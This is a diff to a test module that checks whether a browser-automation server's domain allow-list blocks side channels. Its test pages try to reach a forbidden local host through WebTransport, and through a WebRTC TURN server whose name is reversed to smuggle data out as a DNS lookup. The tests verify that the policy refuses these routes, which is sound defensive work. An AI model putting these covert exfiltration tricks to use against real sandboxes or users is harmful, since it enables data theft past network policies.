@@ -7,6 +7,7 @@ flags serves the whole module (the policy is the server's; a browser start per t
 about 3 s); each test has a session, a forbidden host and an attacker of its own.
 """
 
+import os
 import socket
 import threading
 import time
@@ -134,7 +135,7 @@ navigator.sendBeacon('{hop}?beacon', 'x');
 new EventSource('{hop}?sse');
 new Worker(URL.createObjectURL(new Blob(["fetch('{self._origin()}{hop}?worker').catch(() => {{}})"])));
 </script>""")
-        if path == "/direct":  # straight to the forbidden host: preconnect, WebSocket, font, CSS import
+        if path == "/direct":  # straight to the forbidden host: preconnect, WebSocket, font, CSS import, WebTransport
             f = srv.forbidden
             return self._page(f"""<title>Direct</title>
 <link rel=preconnect href="{f.url('/')}"><link rel=dns-prefetch href="{f.url('/')}">
@@ -145,6 +146,7 @@ body {{font-family: x; background: url("{f.url('/bg.png')}")}}</style>
 try {{ new WebSocket('ws://{f.host}:{f.port}/ws'); }} catch (e) {{}}
 try {{ new WebSocket('wss://{f.host}:{f.port}/wss'); }} catch (e) {{}}
 fetch('https://{f.host}:{f.port}/tls').catch(() => {{}});
+try {{ new WebTransport('https://{f.host}:{f.port}/wt').ready.catch(() => {{}}); }} catch (e) {{}}  // QUIC: UDP
 </script>""")
         if path == "/webrtc":
             f = srv.forbidden
@@ -156,6 +158,18 @@ fetch('https://{f.host}:{f.port}/tls').catch(() => {{}});
     pc.createDataChannel('x');
     await pc.setLocalDescription(await pc.createOffer());
   }}
+  document.title = 'RTC ready';
+}})();
+</script>""")
+        if path.startswith("/webrtc-named?"):  # a TURN server by a name (over TCP: through the proxy), spelt
+            backwards = path.split("?", 1)[1]  # backwards in the address, so that only a use of the name shows it
+            return self._page(f"""<title>RTC</title><script>
+(async () => {{
+  const name = '{backwards}'.split('').reverse().join('');
+  const pc = new RTCPeerConnection({{iceServers: [{{urls: `turn:${{name}}:3478?transport=tcp`, username: 'u',
+                                                   credential: 'c'}}]}});
+  pc.createDataChannel('x');
+  await pc.setLocalDescription(await pc.createOffer());
   document.title = 'RTC ready';
 }})();
 </script>""")
@@ -195,6 +209,19 @@ def attacker(forbidden):
 def guarded(session_on):
     """A server that allows only 127.0.0.1 (one for the module), and a fresh session on it."""
     return session_on("--allowed-domains", "127.0.0.1")
+
+
+@pytest.fixture(params=["shell", "whole"])
+def guarded_on_each(request, session_on):
+    """`guarded` on each browser a server runs: the headless shell (a headless server's, when installed) and the
+    whole browser (a headed server's, or with --spare-renderer), which honour different switches (WebRTC's policy)."""
+    from mcpbrowser.core.browser_process import find_executable
+
+    shell, whole = find_executable("chromium", shell=True), find_executable("chromium")
+    if request.param == "shell" and os.path.realpath(shell) == os.path.realpath(whole):
+        pytest.skip("no headless shell is installed")
+    return session_on("--allowed-domains", "127.0.0.1", *(("--executable-path", whole) if request.param == "whole"
+                                                          else ()))
 
 
 def _refused(c, sid, url, host=FORBIDDEN_HOST):
@@ -256,8 +283,8 @@ def test_subresources_through_redirects_reach_the_host_without_a_policy(session_
     assert wait_for(lambda: forbidden.reached >= 6, seconds=5), forbidden.requests
 
 
-def test_direct_routes_outside_plain_requests(guarded, attacker, forbidden):
-    c, sid = guarded
+def test_direct_routes_outside_plain_requests(guarded_on_each, attacker, forbidden):
+    c, sid = guarded_on_each
     c.tool("navigate", sessionId=sid, url=attacker.url("/direct"))
     # Each route was tried and refused on its way (preconnect and dns-prefetch leave no request to show).
     tried = {"/import.css", "/font.woff", "/bg.png", "/video.mp4", "/ws", "/wss", "/tls"}
@@ -267,12 +294,50 @@ def test_direct_routes_outside_plain_requests(guarded, attacker, forbidden):
     assert forbidden.reached == 0, forbidden.requests
 
 
-def test_webrtc_sends_nothing_to_a_forbidden_host(guarded, attacker, forbidden):
-    c, sid = guarded
+def test_webrtc_sends_nothing_to_a_forbidden_host(guarded_on_each, attacker, forbidden):
+    c, sid = guarded_on_each
     c.tool("navigate", sessionId=sid, url=attacker.url("/webrtc"))
     time.sleep(2.0)  # ICE gathering sends its STUN and TURN requests in this time when it can
     assert c.tool("tabs", sessionId=sid)["tabs"][0]["title"] == "RTC ready"  # WebRTC did run
     assert forbidden.reached == 0, (forbidden.connections, forbidden.datagrams)
+
+
+def test_a_forbidden_name_is_not_looked_up_in_the_dns_past_the_proxy(guarded_on_each, attacker, forbidden, tmp_path):
+    """The policy proxy resolves each name it allows, and only those; a name the browser resolves itself goes to
+    the system's DNS servers whatever the policy says, and on to the name's own (an attacker's) nameserver: data
+    spelled as a name leaves. WebRTC resolved a TURN server's name so (both browsers), then sent its CONNECT to
+    the proxy, which refused it. Seen in the browser's own system calls (strace), as nothing else sees them."""
+    import shutil
+    import subprocess
+    import uuid
+
+    from mcpbrowser.process_tree import child_pids, cmdline, descendants
+
+    if not shutil.which("strace"):
+        pytest.skip("strace is not installed")
+    c, sid = guarded_on_each
+    label = f"leak{uuid.uuid4().hex[:12]}"
+    browsers = [pid for server in child_pids("mcpbrowser") for pid in descendants(server) if "chrom" in cmdline(pid)]
+    traces = [subprocess.Popen(["strace", "-f", "-qq", "-s", "512", "-e", "trace=sendto,sendmsg,sendmmsg",
+                                "-o", str(tmp_path / f"trace.{pid}"), "-p", str(pid)], stderr=subprocess.PIPE)
+              for pid in browsers]
+    try:
+        time.sleep(1.0)  # strace attaches
+        if any(t.poll() is not None for t in traces):
+            pytest.skip(f"strace cannot attach here: {traces[0].stderr.read().decode()[:200]}")
+        c.tool("navigate", sessionId=sid, url=attacker.url("/webrtc-named?" + f"{label}.example.org"[::-1]))
+        # ICE gathering: a lookup of the name comes before the CONNECT, so once that is written all was tried.
+        wait_for(lambda: any(f"CONNECT {label}" in path.read_text(errors="replace")
+                             for path in tmp_path.glob("trace.*")), seconds=10, step=0.2)
+        assert c.tool("tabs", sessionId=sid)["tabs"][0]["title"] == "RTC ready"
+    finally:
+        for t in traces:
+            t.terminate()
+            t.wait()
+    sent = [line for path in tmp_path.glob("trace.*") for line in path.read_text(errors="replace").splitlines()
+            if label in line]
+    assert any(f"CONNECT {label}.example.org" in line for line in sent), sent  # tried, through the proxy
+    assert not [line for line in sent if "CONNECT " not in line], sent  # and nothing else named it
 
 
 @pytest.mark.parametrize("spelling", ["[::ffff:127.0.0.2]", "[::ffff:7f00:2]", "2130706434", "0x7f.0.0.2",
